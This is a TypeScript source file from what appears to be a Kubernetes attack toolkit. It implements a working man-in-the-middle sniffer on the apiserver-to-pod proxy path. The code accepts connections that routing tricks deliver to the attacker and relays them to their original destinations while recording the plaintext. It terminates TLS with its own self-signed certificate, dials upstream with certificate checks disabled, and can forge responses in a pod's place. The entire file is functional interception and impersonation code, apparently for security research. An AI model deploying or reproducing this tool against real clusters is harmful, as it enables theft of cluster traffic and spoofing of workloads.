// The sniffer (C11, C12): a relay on the apiserver → pod/service proxy path. On a router between control plane
// and nodes, routes that make the pod network local to the attacker deliver the apiserver's proxy connections
// to these listeners whatever address they were for; the original destination is the socket's local address,
// and the relay dials it from a source address the attacker routes onwards to the node. Plain HTTP is read as
// it passes; for `https:` the sniffer shows its own certificate, which the apiserver never checks, so it reads
// the plaintext and may answer in the pod's place.
import { connect as netConnect, createServer as createTcpServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Duplex } from 'node:stream';
import { connect as tlsConnect, createServer as createTlsServer } from 'node:tls';
import { createSelfSignedServingCert } from '@hubspoke/pki';
import type { Logger } from 'pino';
import type { CapturedExchange } from '../mitm/capture.ts';
import { encodeForgedResponse, type Impersonator } from './forged-response.ts';
import { SniffRecorder, type SniffCapture } from './sniff-capture.ts';

/** One port the sniffer accepts on. */
export interface SniffListener {
  /** 0 for any free port. */
  port: number;
  /** Terminate TLS with the sniffer's certificate and relay over TLS (the `https:` proxy scheme). */
  tls?: boolean;
  /** Answer every request on this port itself instead of relaying. */
  impersonate?: Impersonator;
  /** Relay to this address instead of the original destination (a single host, where the victim's address is poisoned). */
  upstream?: { host: string; port: number };
}

/** Where and how to sniff. */
export interface SniffOptions {
  /** The address every listener binds (default `0.0.0.0`: any destination the routes deliver). */
  host?: string;
  listeners: SniffListener[];
  /** Source address of the relay's own connections (kept out of the interception routes by policy routing). */
  sourceAddress?: string;
  /** The certificate shown on TLS ports; default a fresh self-signed one. */
  certificate?: { cert: string; key: string };
  logger?: Logger;
}

/** A running sniffer. */
export interface Sniffer {
  address: string;
  /** The bound ports, in the order of `listeners`. */
  ports: number[];
  /** Every connection that carried plaintext, oldest first (live objects: they grow as traffic flows). */
  captures(): SniffCapture[];
  /** Call `cb` for each new connection once its first plaintext arrives; returns an unsubscribe. */
  onCapture(cb: (capture: SniffCapture) => void): () => void;
  /** Call `cb` each time a response has been read to its end; returns an unsubscribe. */
  onExchange(cb: (capture: SniffCapture, exchange: CapturedExchange) => void): () => void;
  close(): Promise<void>;
}

/** Start every listener; resolves once all are bound. */
export async function startSniff(options: SniffOptions): Promise<Sniffer> {
  const log = options.logger?.child({ component: 'sniff' });
  const host = options.host ?? '0.0.0.0';
  const needsCert = options.listeners.some((l) => l.tls);
  const certificate = options.certificate ?? (needsCert ? await createSelfSignedServingCert({ host: 'hubspoke-attacker' }) : undefined);
  const captures: SniffCapture[] = [];
  const captureListeners = new Set<(c: SniffCapture) => void>();
  const exchangeListeners = new Set<(c: SniffCapture, x: CapturedExchange) => void>();
  const sockets = new Set<Duplex>();
  const servers: Server[] = [];
  let nextId = 1;

  const track = (s: Duplex): void => {
    sockets.add(s);
    s.once('close', () => sockets.delete(s));
  };

  /** One accepted connection, in plaintext (TLS listeners have terminated TLS already). */
  const handle = (listener: SniffListener, client: Socket): void => {
    const from = `${client.remoteAddress}:${client.remotePort}`;
    // The routes delivered the connection as if this host were the destination: it is the local address.
    const destination = { host: client.localAddress ?? '', port: client.localPort ?? 0 };
    const target = listener.upstream ?? destination;
    const scheme = listener.tls ? 'https' : 'http';
    if (!listener.upstream && !listener.impersonate && isOwnAddress(destination.host)) {
      // A connection for the attacker itself: relaying it to its original destination would loop back here.
      log?.warn({ client: from, destination: `${destination.host}:${destination.port}` }, 'refusing a connection addressed to the sniffer itself');
      client.destroy();
      return;
    }
    let recorder: SniffRecorder | undefined;
    const impersonate = listener.impersonate;
    const upstream = impersonate ? undefined : dial(listener, target, options.sourceAddress);
    if (upstream) track(upstream);

    const answer = (exchange: CapturedExchange): void => {
      const bytes = encodeForgedResponse(impersonate!(exchange.request), exchange.request.method);
      client.write(bytes);
      recorder!.fromServer(bytes);
      log?.info({ id: recorder!.capture.id, target: exchange.request.target }, 'answered in the pod\'s place');
    };

    client.on('data', (chunk: Buffer) => {
      if (!recorder) {
        recorder = new SniffRecorder(
          { id: nextId++, client: from, destination: `${destination.host}:${destination.port}`, scheme, impersonated: Boolean(impersonate) },
          {
            request: impersonate ? answer : undefined,
            exchange: (x) => {
              log?.info({ id: recorder!.capture.id, method: x.request.method, target: x.request.target, status: x.response?.status }, 'captured an exchange');
              for (const cb of exchangeListeners) cb(recorder!.capture, x);
            },
          },
        );
        captures.push(recorder.capture);
        log?.info({ id: recorder.capture.id, client: from, destination: recorder.capture.destination, scheme }, 'intercepting a connection');
        for (const cb of captureListeners) cb(recorder.capture);
      }
      recorder.fromClient(chunk);
    });

    let ended = false;
    const finish = (): void => {
      if (ended) return;
      ended = true;
      recorder?.close();
      client.destroy();
      upstream?.destroy();
    };
    client.on('close', finish);
    client.on('error', finish);
    if (!upstream) {
      client.on('end', () => client.end());
      return;
    }
    upstream.on('data', (chunk: Buffer) => recorder?.fromServer(chunk));
    // pipe() handles back-pressure; the 'data' taps above only read along.
    client.pipe(upstream);
    upstream.pipe(client);
    upstream.on('close', finish);
    upstream.on('error', (err: NodeJS.ErrnoException) => {
      log?.warn({ target: `${target.host}:${target.port}`, err: err.code ?? err.message }, 'the upstream connection failed');
      finish();
    });
  };

  for (const listener of options.listeners) {
    const server = listener.tls
      ? createTlsServer({ cert: certificate!.cert, key: certificate!.key, ALPNProtocols: ['http/1.1'] }, (tls) => handle(listener, tls))
      : createTcpServer((socket) => handle(listener, socket));
    server.on('connection', (s: Socket) => track(s));
    if (listener.tls) {
      server.on('tlsClientError', (err: NodeJS.ErrnoException, socket: Socket) => {
        log?.info({ client: `${socket.remoteAddress}:${socket.remotePort}`, reason: err.code ?? err.message }, 'TLS handshake failed');
      });
    }
    servers.push(server);
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(listener.port, host, () => {
        server.removeListener('error', reject);
        resolve();
      });
    }).catch(async (err: unknown) => {
      await closeServers();
      throw err;
    });
  }
  const ports = servers.map((s) => (s.address() as AddressInfo).port);
  log?.info({ host, ports, tls: options.listeners.map((l) => Boolean(l.tls)) }, 'sniffing');

  async function closeServers(): Promise<void> {
    const closed = servers.map((s) => new Promise<void>((resolve) => s.close(() => resolve())));
    for (const s of sockets) s.destroy();
    await Promise.all(closed);
  }

  return {
    address: host,
    ports,
    captures: () => [...captures],
    onCapture(cb) {
      captureListeners.add(cb);
      return () => captureListeners.delete(cb);
    },
    onExchange(cb) {
      exchangeListeners.add(cb);
      return () => exchangeListeners.delete(cb);
    },
    close: closeServers,
  };
}

/** The relay's own connection, TLS when the listener terminates TLS; the attacker trusts anyone. */
function dial(listener: SniffListener, target: { host: string; port: number }, localAddress: string | undefined): Socket {
  const tcp = netConnect({ host: target.host, port: target.port, localAddress });
  return listener.tls ? tlsConnect({ socket: tcp, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] }) : tcp;
}

function isOwnAddress(address: string): boolean {
  const plain = address.replace(/^::ffff:/, '');
  return Object.values(networkInterfaces()).some((list) => list?.some((i) => i.address === plain));
}
